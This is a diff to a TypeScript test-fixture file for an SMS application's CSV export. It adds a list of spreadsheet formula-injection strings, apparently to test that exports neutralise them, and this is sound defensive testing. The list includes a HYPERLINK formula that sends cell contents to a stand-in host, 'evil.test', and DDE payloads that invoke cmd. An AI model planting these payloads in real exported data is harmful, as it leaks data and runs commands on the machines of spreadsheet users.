@@ -3,6 +3,20 @@ import { forTenant } from '../prisma/tenant-db.ts';
 import { randomPhone } from './sms-fixtures.ts';
 import { uniqueId } from './stack.ts';
 
+/**
+ * What anyone who texts a business can put in a cell: text a spreadsheet program would run as a
+ * formula (it starts with = + - @, a tab or a carriage return).
+ */
+export const FORMULA_TEXTS = [
+  '=1+1',
+  '=HYPERLINK("https://evil.test/?d="&A1,"Click for your discount")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+2',
+  '\r=1+3',
+];
+
 /** Values a CSV writer must quote, or that break naive encodings. */
 export const TRICKY_TEXTS = [
   'Smith, John',
@@ -13,7 +27,7 @@ export const TRICKY_TEXTS = [
   '"',
   ',',
   ' leading and trailing spaces ',
-  '=1+1', // stays text: the export does not interpret values
+  ...FORMULA_TEXTS,
 ];
 
 export const SEALED_SIP_PASSWORD = 'v1:SEALED-SIP-PASSWORD-MUST-NOT-LEAK';
